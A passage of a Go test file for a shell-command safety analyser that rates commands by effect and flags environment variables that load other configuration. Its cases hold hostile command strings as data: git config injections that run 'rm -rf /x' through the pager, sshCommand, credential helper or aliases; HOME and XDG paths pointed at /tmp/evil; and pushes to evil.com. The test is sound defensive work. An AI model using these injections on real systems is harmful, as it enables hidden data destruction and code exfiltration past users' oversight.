		{cmd: `npm_config_globalconfig=/tmp/x yarn build`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `NPM_CONFIG_GLOBALCONFIG=/tmp/x npx eslint .`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm_config_userconfig=/dev/null npm test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `HOME=/tmp/evil npm_config_userconfig=/dev/null npm test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `YARN_RC_FILENAME=evil.yml yarn build`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `YARN_YARN_PATH=/tmp/x.js yarn build`, effect: ExecuteCheck, noWrites: true},
		{cmd: `YARN_YARN_PATH="$Y" yarn build`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// git's settings given one by one are read as git -c's: what they
		// run is analysed; a malformed or unknown one is not known.
		{cmd: `GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf /x'" git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'core.pager=rm -rf /x'" git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'user.name'='a' 'Core.SSHCommand'='rm -rf /x'" git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'core.pager'='less'" git log`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_PARAMETERS="'core.pager'='git log'" git log`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_PARAMETERS="core.pager=rm" git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'core.pager'='rm" git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_PARAMETERS="$P" git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'core.hooksPath'='/tmp/h'" git commit -m x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=a GIT_CONFIG_KEY_1=core.sshCommand GIT_CONFIG_VALUE_1='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0='!rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor GIT_CONFIG_VALUE_0='rm -rf /x'; git commit`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='git log' git log`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='ssh -i k' git fetch`, effect: Network, noWrites: true},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0="$P" git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0="$K" GIT_CONFIG_VALUE_0=x git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=/tmp/c git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// An alias given so is analysed as git -c's.
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.l GIT_CONFIG_VALUE_0='!rm -rf /x' git l`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf' git x /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push --force' git p origin main`, effect: Destructive, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_PARAMETERS="'alias.x'='!rm -rf /x'" git x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf /x' git -c alias.x='!echo' x`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf /x' git status`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!git x' git x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0="$A" git x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=a git log`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_CONFIG_COUNT=x git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_COUNT=$N git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GNUPGHOME=/tmp/g gpg -d f.gpg`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `export GNUPGHOME=/tmp/g; gpg --list-keys`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `OPENSSL_CONF=/tmp/x.cnf openssl rand -hex 8`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `OPENSSL_CONF=/tmp/x.cnf curl https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `OPENSSL_CONF=/dev/null openssl rand -hex 8`, effect: ReadOnly, noWrites: true},
		{cmd: `OPENSSL_MODULES=/tmp/m openssl rand -hex 8`, effect: ExecuteCheck, noWrites: true},
		{cmd: `CURL_HOME=/tmp/h curl https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `export CURL_HOME=/tmp/h; curl -s https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `CURL_HOME=/tmp/h curl -q https://x.example`, effect: Network, noWrites: true},
		{cmd: `CURL_HOME=/dev/null curl https://x.example`, effect: Network, noWrites: true},
		{cmd: `WGETRC=/tmp/w wget https://x.example/f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `WGETRC=/dev/null wget https://x.example/f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `WGETRC=/tmp/w wget --no-config https://x.example/f`, effect: Write, writes: []string{"/proj/f"}},
		// HOME and XDG_CONFIG_HOME name where curl, wget and git find
		// their configuration: given by the command, another one.
		{cmd: `HOME=/tmp/evil curl https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `XDG_CONFIG_HOME=/tmp/evil curl https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `env HOME=/tmp/evil curl -s https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME="$H" curl https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil curl -q https://x.example`, effect: Network, noWrites: true},
		{cmd: `HOME=/dev/null curl https://x.example`, effect: Network, noWrites: true},
		{cmd: `HOME=$HOME curl https://x.example`, effect: Network, noWrites: true},
		{cmd: `XDG_CONFIG_HOME="$HOME/.config" curl https://x.example`, effect: Network, noWrites: true},
		{cmd: `curl https://x.example`, effect: Network, noWrites: true},
		{cmd: `HOME=/tmp/evil git status`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `export HOME=/tmp/evil; git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `XDG_CONFIG_HOME=/tmp/evil git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil XDG_CONFIG_HOME=/tmp/evil GIT_CONFIG_GLOBAL=/dev/null git status`, effect: ReadOnly, noWrites: true},
		{cmd: `HOME=/dev/null git status`, effect: ReadOnly, noWrites: true},
		{cmd: `git status`, effect: ReadOnly, noWrites: true},
		{cmd: `HOME=/tmp/evil wget https://x.example/f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil WGETRC=/dev/null wget https://x.example/f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `HOME=/tmp/evil wget --no-config https://x.example/f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `HOME=/tmp/evil ls`, effect: ReadOnly, noWrites: true},
		// npm's .npmrc can set script-shell; less's lesskey, LESSOPEN;
		// gpg's home, its agent program; parallel's config, its options.
		{cmd: `HOME=/tmp/evil npm test`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil npx eslint .`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `export HOME=/tmp/evil; yarn build`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil pnpm install`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `XDG_CONFIG_HOME=/tmp/evil pnpm install`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=$HOME npm test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `HOME=/tmp/evil less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `XDG_CONFIG_HOME=/tmp/evil less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEYIN=/tmp/k less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/dev/null less f`, effect: ReadOnly, noWrites: true},
		{cmd: `less f`, effect: ReadOnly, noWrites: true},
		{cmd: `HOME=/tmp/evil gpg --list-keys`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil gpg2 -d f.gpg`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil GNUPGHOME=/dev/null gpg --list-keys`, effect: ReadOnly, noWrites: true},
		{cmd: `HOME=/tmp/evil parallel echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `PARALLEL_HOME=/tmp/p parallel echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `HOME=/tmp/evil PARALLEL_HOME=/dev/null parallel echo ::: a`, effect: ReadOnly, noWrites: true},
		{cmd: `parallel echo ::: a`, effect: ReadOnly, noWrites: true},
		// Variables that load no code change nothing.
		{cmd: `LANG=C TZ=UTC ls`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_DIR=/tmp/r/.git git status`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_EXEC_PATH=/tmp/x git status`, effect: ExecuteCheck, noWrites: true},
		{cmd: `CGO_ENABLED=0 GOFLAGS=-mod=mod go vet ./...`, effect: ExecuteCheck, noWrites: true},
	}
	checkCases(t, cases)
	// Every variable of the table is held to a case here.
	for _, v := range envTable() {
		if !slices.ContainsFunc(cases, func(c worstCase) bool { return strings.Contains(c.cmd, v.name+"=") }) {
			t.Errorf("%s: no case gives it", v.name)
		}
	}
}

// TestRemoteHosts: a remote set up in the command is its URL's host; a
// named remote whose URL is not in the command is "<remote NAME>".
func TestRemoteHosts(t *testing.T) {
	checkCases(t, []worstCase{
		{cmd: `git remote add e https://evil.com/x && git push e main`, effect: Write, hosts: []string{"evil.com"}},
		{cmd: `git remote add gh git@github.com:a/b && git push gh main`, effect: Write, hosts: []string{"github.com"}},
		{cmd: `git remote set-url origin git@evil.com:x/y`, effect: Write, hosts: []string{"evil.com"}},
		{cmd: `git config remote.origin.url https://evil.com/x`, effect: Write, hosts: []string{"evil.com"}},
		{cmd: `git -c remote.origin.url=https://evil.com/x push origin main`, effect: Network, hosts: []string{"evil.com"}},
		{cmd: `git -c url.https://evil.com/.insteadOf=https://github.com/ push https://github.com/a/b main`, effect: Network, hosts: []string{"evil.com", "github.com"}},
		{cmd: `git push origin main`, effect: Network, noWrites: true, hosts: []string{"<remote origin>"}},
		{cmd: `git push -u origin feature`, effect: Network, hosts: []string{"<remote origin>"}},
		{cmd: `git push`, effect: Network, hosts: []string{"<remote>"}},
		{cmd: `git push https://github.com/a/b main`, effect: Network, hosts: []string{"github.com"}},
		{cmd: `git push git@github.com:a/b.git main`, effect: Network, hosts: []string{"github.com"}},
		{cmd: `git push ../other main`, effect: Network, hosts: []string{}},
		{cmd: `git fetch origin`, effect: Network, hosts: []string{"<remote origin>"}},
		{cmd: `git clone https://github.com/a/b.git dir`, effect: Write, hosts: []string{"github.com"}},
	})
}

// TestWorstInvariants holds every corpus command to the rules: a
// destructive analysis writes something, an unknown one writes Anywhere,
// a dynamic step makes the analysis unknown.
func TestWorstInvariants(t *testing.T) {
	for _, e := range readCorpus(t) {
		checkWorst(t, e.Command, Analyze(e.Command, Options{Dir: corpusDir}))
	}
}

func checkWorst(t *testing.T, cmd string, a Analysis) {
	t.Helper()
	if a.Effect == Destructive && len(a.Writes) == 0 {
		t.Fatalf("%q: destructive, no writes", cmd)
	}
	if a.Unknown && !slices.Contains(a.Writes, Anywhere) {
		t.Fatalf("%q: unknown, writes %q", cmd, a.Writes)
	}
	for _, s := range a.Steps {
		if s.Dynamic && !a.Unknown {
			t.Fatalf("%q: dynamic step %q, analysis not unknown", cmd, strings.Join(s.Args, " "))
		}
		if s.Effect == Destructive && len(s.Writes) == 0 {
			t.Fatalf("%q: destructive step %s with no writes", cmd, s.Program)
		}
	}
}
